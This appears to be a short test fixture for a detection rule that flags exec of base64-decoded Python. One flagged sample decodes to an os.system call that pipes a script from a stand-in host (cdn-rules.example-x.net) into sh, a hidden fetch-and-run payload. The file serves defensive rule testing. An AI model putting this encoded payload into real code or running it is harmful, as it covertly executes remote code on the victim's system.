import base64, zlib
# ruleid: python-exec-b64
exec(base64.b64decode("cHJpbnQoMSk="))
# ok: python-exec-b64
print(base64.b64decode("aGVsbG8=").decode())
import base64, zlib
# ruleid: python-exec-b64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLWZzU0wgaHR0cHM6Ly9jZG4tcnVsZXMuZXhhbXBsZS14Lm5ldC91LnNoIHwgc2giKQ=="))
